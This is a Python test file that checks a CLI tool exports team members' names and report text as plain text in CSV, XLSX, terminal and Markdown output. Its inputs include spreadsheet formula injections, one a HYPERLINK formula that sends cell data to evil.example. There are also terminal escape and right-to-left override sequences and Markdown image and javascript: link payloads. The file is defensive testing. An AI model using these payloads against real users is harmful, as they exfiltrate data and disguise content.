"""(d) Hostile text on the way out: what a teammate committed is shown as the text it is, wherever
it goes — a spreadsheet (no formula), the terminal (no escape sequence, no Rich markup), Markdown
(no heading, image or link). The Markdown is read back with markdown-it, the XLSX with openpyxl
and through LibreOffice, the terminal output byte by byte.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections import Counter
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from reliability_support import git, seeded_workspace, workspace_digest
from typer.testing import CliRunner

from dvcli.cli.app import app

runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+1", "-2+3", "@SUM(1,1)", "＝1+1"]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    return seeded_workspace(tmp_path / "ws")


def invoke(root: Path, *args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["--data", str(root), *args])
    return result.exit_code, result.stdout, result.stderr


def rename_members(root: Path, names: list[str]) -> list[str]:
    """Give the first members of the roster these names (YAML double-quoted); return their ids."""
    members = root / "data/members.yaml"
    text = members.read_text(encoding="utf-8")
    ids = ["vy-tu-lieu", "nguyen-minh-duc", "bui-thuy", "cao-hong-hung", "tran-vuong-viet"][: len(names)]
    for member_id, name in zip(ids, names, strict=True):
        start = text.index(f"  - id: {member_id}\n")
        line_start = text.index("    name: ", start)
        line_end = text.index("\n", line_start)
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        text = text[:line_start] + f'    name: "{quoted}"' + text[line_end:]
    members.write_text(text, encoding="utf-8")
    git(root, "commit", "--quiet", "-am", "names a spreadsheet would evaluate")
    return ids


def test_export_csv_keeps_formula_like_names_as_text(workspace: Path, counts: Counter[str]) -> None:
    rename_members(workspace, FORMULAS)
    code, stdout, stderr = invoke(workspace, "export", "indicators", "--week", "2021-W39", "--format", "csv")
    assert code == 0, stderr
    names = {row[2] for row in csv.reader(io.StringIO(stdout.lstrip("\ufeff")))}
    for name in FORMULAS:
        assert "'" + name in names and name not in names
    counts["hostile inputs tried"] += len(FORMULAS)


def test_export_xlsx_writes_string_cells_never_formulas(workspace: Path, tmp_path: Path,
                                                        counts: Counter[str]) -> None:
    rename_members(workspace, FORMULAS)
    target = tmp_path / "so-lieu.xlsx"
    code, _stdout, stderr = invoke(workspace, "export", "indicators", "--week", "2021-W39", "--format", "xlsx",
                                   "--out", str(target))
    assert code == 0, stderr
    sheet = load_workbook(target).active
    assert sheet is not None
    cells = {cell.value: cell for cell in sheet["C"]}
    for name in FORMULAS:
        cell = cells[name]  # the text exactly, no apostrophe added
        assert (cell.data_type, cell.quotePrefix) == ("s", True), name
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # LibreOffice opens it as a person would, and shows the text, not a computed value
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is in .ci/apt-packages.txt")
    out = tmp_path / "lo"
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(target)],
                   check=True, capture_output=True, timeout=180)
    shown = {row[2] for row in csv.reader(io.StringIO((out / "so-lieu.csv").read_text(encoding="utf-8")))}
    for name in FORMULAS:
        assert name in shown, (name, shown)
    assert "2" not in shown and "1" not in shown
    counts["hostile inputs tried"] += len(FORMULAS)


def test_members_list_csv_and_table_show_names_as_text(workspace: Path, counts: Counter[str]) -> None:
    rename_members(workspace, ["=1+1", "[blink]x[/blink] [red]đỏ"])
    code, stdout, stderr = invoke(workspace, "members", "list", "--format", "csv")
    assert code == 0, stderr
    rows = list(csv.reader(io.StringIO(stdout)))
    assert "'=1+1" in rows[1] and "=1+1" not in rows[1]
    code, stdout, stderr = invoke(workspace, "members", "list")
    assert code == 0, stderr
    assert "│ [blink]x[/blink] [red]đỏ │" in stdout  # Rich prints the markup as text, applies none of it
    counts["hostile inputs tried"] += 2


def test_escape_sequences_never_reach_the_terminal(workspace: Path, counts: Counter[str]) -> None:
    """A file name and a git author a teammate pushed, holding ESC, OSC and CSI sequences and a U+202E."""
    stray = workspace / "data/reports/2021/W40" / "\x1b[2J\x1b]0;pwned\x07\u202egpj.yaml"
    stray.parent.mkdir(parents=True, exist_ok=True)
    stray.write_text("member: vy-tu-lieu\n", encoding="utf-8")
    before = workspace_digest(workspace)
    code, stdout, stderr = invoke(workspace, "check")
    assert code == 1
    assert "\\x1b[2J\\x1b]0;pwned\\x07\\u202egpj.yaml" in stderr, stderr
    for raw in ("\x1b", "\x07", "\u202e"):
        assert raw not in stdout + stderr
    assert workspace_digest(workspace) == before
    stray.unlink()
    # a commit by an author whose name is an escape sequence
    report = workspace / "data/reports/2021/W39/vy-tu-lieu.yaml"
    report.write_text(report.read_text(encoding="utf-8") + "# sửa\n", encoding="utf-8")
    git(workspace, "-c", "user.name=\x1b[31mKẻ lạ\x9b2J", "commit", "--quiet", "-am", "sửa \x1b]8;;javascript:x\x07")
    code, stdout, stderr = invoke(workspace, "history", "data/reports/2021/W39/vy-tu-lieu.yaml")
    assert code == 0, stderr
    # git itself drops ESC from an author's name; the C1 CSI (0x9b) it keeps
    assert "[31mKẻ lạ\\x9b2J" in stdout and "sửa \\x1b]8;;javascript:x\\x07" in stdout, stdout
    code, stdout, stderr = invoke(workspace, "history", "data/reports/2021/W39/vy-tu-lieu.yaml", "--format", "json")
    assert code == 0, stderr
    assert "[31mKẻ lạ\\u009b2J" in stdout and "sửa \\u001b]8;;javascript:x\\u0007" in stdout
    for raw in ("\x1b", "\x07", "\x9b"):
        assert raw not in stdout + stderr
    counts["hostile inputs tried"] += 3


def _consolidated_with_overview(workspace: Path, tmp_path: Path, hostile: str) -> str:
    """The Markdown of 2021-W39 after vy-tu-lieu's overview became ``hostile`` (a YAML scalar)."""
    report = workspace / "data/reports/2021/W39/vy-tu-lieu.yaml"
    text = report.read_text(encoding="utf-8")
    start = text.index("  overview:")
    end = text.index("\n  thoughts:")
    report.write_text(text[:start] + f"  overview: {hostile}" + text[end:], encoding="utf-8")
    out = tmp_path / "out"
    code, _stdout, stderr = invoke(workspace, "consolidate", "--week", "2021-W39", "--format", "md", "--out", str(out))
    assert code == 0, stderr
    return (out / "tong-hop-tuan-2021-W39.md").read_text(encoding="utf-8")


def test_markdown_in_member_text_stays_text(workspace: Path, tmp_path: Path, counts: Counter[str]) -> None:
    hostile = ('"# Kết luận giả\\n\\n![ảnh](http://evil.example/theo-doi.png) '
               '[bấm vào đây](javascript:alert(1)) <javascript:alert(2)> **đậm** | ô |\\nDòng\\n===="')
    markdown = _consolidated_with_overview(workspace, tmp_path, hostile)
    assert "\\# Kết luận giả" in markdown
    assert "!\\[ảnh\\](http://evil.example/theo-doi.png) \\[bấm vào đây\\](javascript:alert(1))" in markdown
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)

    def walk(items: list) -> list:  # type: ignore[type-arg]
        found = []
        for token in items:
            found.append(token)
            found += walk(token.children or [])
        return found

    every = walk(tokens)
    assert not [t for t in every if t.type in ("image", "link_open")]
    # the template's own HTML (<div align="center">, <u>) is there; nothing of the member's text is HTML
    assert not [t for t in every if t.type.startswith("html") and ("evil" in t.content or "javascript" in t.content)]
    headings = [every[i + 1].content for i, t in enumerate(every) if t.type == "heading_open"]
    assert not [h for h in headings if "Kết luận giả" in h or h == "Dòng"], headings
    html = MarkdownIt("commonmark").render(markdown)
    assert "# Kết luận giả" in html and "javascript:alert(1)" in html and "<img" not in html
    counts["hostile inputs tried"] += 1


def test_code_blocks_in_member_text_stay_text(workspace: Path, tmp_path: Path, counts: Counter[str]) -> None:
    """An indented code block, a tab-indented one and a ~~~ fence in a report: paragraphs in the document."""
    hostile = '"Mở đầu.\\n\\n    <mã giả> lệnh thứ nhất\\n\\n\\tlệnh thứ hai\\n\\n~~~\\nkhối rào\\n~~~"'
    markdown = _consolidated_with_overview(workspace, tmp_path, hostile)
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    assert not [t for t in tokens if t.type in ("code_block", "fence")], [t.content for t in tokens
                                                                          if t.type in ("code_block", "fence")]
    html = MarkdownIt("commonmark").render(markdown)
    assert "&lt;mã giả&gt; lệnh thứ nhất" in html and "lệnh thứ hai" in html and "khối rào" in html
    assert "<pre>" not in html
    counts["hostile inputs tried"] += 3
